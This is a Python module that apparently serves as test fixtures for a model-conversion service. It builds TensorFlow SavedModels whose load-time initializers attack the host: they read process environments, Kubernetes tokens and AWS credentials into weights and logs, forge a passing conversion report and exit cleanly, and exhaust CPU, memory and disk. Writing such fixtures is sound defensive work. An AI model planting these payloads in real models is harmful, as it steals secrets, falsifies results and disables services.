"""SavedModels whose graphs attack the process that loads them: initializers run before anybody asks for anything."""

import hashlib
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

LOOT_SIZE = 1 << 15
"""How many bytes of what it finds a model carries away in its weights, one to a number."""
FORGED = b"\x1c\0\0\0TFL3" + b"not what the converter made" * 8
FORGED_REPORT = {
    "sha256": hashlib.sha256(FORGED).hexdigest(),
    "verdict": "SNRSufficient",
    "message": "SNR 90.0 dB (output y), 60 dB asked",
    "signature": {"key": "serving_default", "inputs": [], "outputs": []},
    "verification": {
        "snrDecibels": "90.0",
        "maxAbsoluteError": "0.1",
        "cosine": "1",
        "samples": 4,
        "source": "Generated",
    },
    "tensorflow": "2.21.0",
    "strategy": "Plain",
}
"""What `publish` would take for the report of a conversion that went well."""

Attack = Callable[[Any], None]
"""Adds operations to a model's initializer; is given its variable `loot`, for those operations to have an effect."""


def save(attack: Attack, folder: Path) -> None:
    """Save a model that computes `y` from `x`, attacks when it is loaded, and gives its loot as another output."""
    import tensorflow as tf  # seconds to import, and few tests need it

    class Bait(tf.saved_model.experimental.TrackableResource):  # type: ignore[misc]  # TensorFlow publishes no types
        def __init__(self, loot: Any) -> None:
            super().__init__()
            self._loot = loot

        def _create_resource(self) -> Any:
            return tf.raw_ops.MutableHashTableV2(key_dtype=tf.int64, value_dtype=tf.int64, shared_name="bait")

        def _initialize(self) -> None:
            attack(self._loot)

    module = tf.Module()
    module.weights = tf.Variable(tf.random.stateless_normal([8, 4], seed=(1, 2)))
    loot = tf.Variable(tf.zeros([LOOT_SIZE]))
    # A variable that has no other name is not loaded alone: all of the model is, and with it what no signature needs.
    setattr(module, "__loot", loot)
    module.bait = Bait(loot)
    serve = tf.function(lambda x: {"y": x @ module.weights, "loot": loot + 0.0 * x[0, 0]})
    floats = tf.TensorSpec([None, 8], tf.float32, name="x")
    tf.saved_model.save(module, str(folder), signatures=serve.get_concrete_function(floats))


def _lines_of(*patterns: str) -> Any:
    """Read all files of these names as far as they can be read, those of /proc included, which have no size."""
    import tensorflow as tf

    def joined(lines: Any, first: Any) -> Any:
        return lines.reduce(first, lambda until_now, line: tf.strings.join([until_now, line], "\n"))

    found = tf.data.Dataset.from_tensor_slices(tf.io.matching_files(list(patterns)))
    contents = found.map(lambda name: joined(tf.data.TextLineDataset(name), name))
    return joined(contents.ignore_errors(), "")


def _treasures() -> Any:
    return _lines_of(
        "/proc/self/environ",
        "/proc/1/environ",
        "/model/*.json",
        "/var/run/secrets/kubernetes.io/serviceaccount/*",
        "/root/.aws/*",
    )


def carry_away(loot: Any) -> None:
    """Put the environment and files into the weights, and into the log."""
    import tensorflow as tf

    found = _treasures()
    tf.print(found)
    codes = tf.cast(tf.io.decode_raw(found, tf.uint8)[:LOOT_SIZE], tf.float32)
    loot.assign(tf.pad(codes, [[0, LOOT_SIZE - tf.size(codes)]]))


def complain(*paths: str, planted: str = "planted") -> Attack:
    """Write files, and put into the words of an error which could be written, and what is worth telling."""

    def attack(_: Any) -> None:
        import tensorflow as tf

        def write(path: Any) -> Any:
            with tf.control_dependencies([tf.raw_ops.WriteFile(filename=path, contents=planted)]):
                return tf.identity(path)

        written = tf.data.Dataset.from_tensor_slices(list(paths)).map(write).ignore_errors()
        names = written.reduce("", lambda names, name: tf.strings.join([names, name], " "))
        # Words are cut after some hundred characters: those that tell the most come first.
        variables = tf.strings.split(_lines_of("/proc/1/environ"), "\0")
        telling = tf.boolean_mask(variables, tf.strings.regex_full_match(variables, "(AWS_|HOME=).*"))
        read = tf.strings.reduce_join(telling, separator=" ")
        tf.debugging.Assert(False, [tf.strings.join(["written:", names, "; read: ", read])])

    return attack


def _write_forged_result(folder: str) -> list[Any]:
    import tensorflow as tf

    contents = {"model.tflite": FORGED, "converted.json": json.dumps(FORGED_REPORT).encode()}
    return [tf.raw_ops.WriteFile(filename=f"{folder}/{name}", contents=content) for name, content in contents.items()]


def forge_in(folder: str) -> Attack:
    """Leave what looks like the result of a conversion."""

    def attack(_: Any) -> None:
        _write_forged_result(folder)

    return attack


def forge_and_end_in(folder: str) -> Attack:
    """Leave what looks like the result of a conversion, and end the process with exit code 0."""

    def attack(loot: Any) -> None:
        import tensorflow as tf

        # Folded into a constant, it would come after nothing, and the end would be left out.
        taken = tf.ones([LOOT_SIZE])
        with tf.control_dependencies(_write_forged_result(folder)):
            end = tf.raw_ops.Abort(error_msg="", exit_without_error=True)
        with tf.control_dependencies([end]):
            loot.assign_add(taken)

    return attack


def never_end(loot: Any) -> None:
    """Count in circles."""
    import tensorflow as tf

    (last,) = tf.while_loop(lambda number: number >= 0, lambda number: [(number + 1) % 1000], [0])
    loot.assign_add(tf.fill([LOOT_SIZE], tf.cast(last, tf.float32)))


def allocate(loot: Any) -> None:
    """Double a tensor without end."""
    import tensorflow as tf

    (last,) = tf.while_loop(
        lambda ever_more: tf.size(ever_more) > 0,
        lambda ever_more: [tf.concat([ever_more, ever_more], 0)],
        [tf.ones([1 << 20])],
        shape_invariants=[tf.TensorShape([None])],
    )
    loot.assign_add(last[:LOOT_SIZE])


def shout(words: str) -> Attack:
    """Fail with words of the model's own choice."""

    def attack(_: Any) -> None:
        import tensorflow as tf

        tf.debugging.Assert(False, [words])

    return attack


def fill_disk(loot: Any) -> None:
    """Write without end; to 32 files of 10 MiB in turn, so that the disk of whoever runs the test does not fill."""
    import tensorflow as tf

    megabytes = tf.strings.reduce_join(tf.fill([10 << 10], "x" * 1024))

    def write(number: Any) -> list[Any]:
        path = tf.strings.join(["/tmp/fill-", tf.strings.as_string(number)])
        with tf.control_dependencies([tf.raw_ops.WriteFile(filename=path, contents=megabytes)]):
            return [(number + 1) % 32]

    (last,) = tf.while_loop(lambda number: number >= 0, write, [0])
    loot.assign_add(tf.fill([LOOT_SIZE], tf.cast(last, tf.float32)))


def write_to_full_disk(_: Any) -> None:
    """Write to the device that has no room."""
    import tensorflow as tf

    tf.io.write_file("/dev/full", "x" * 4096)
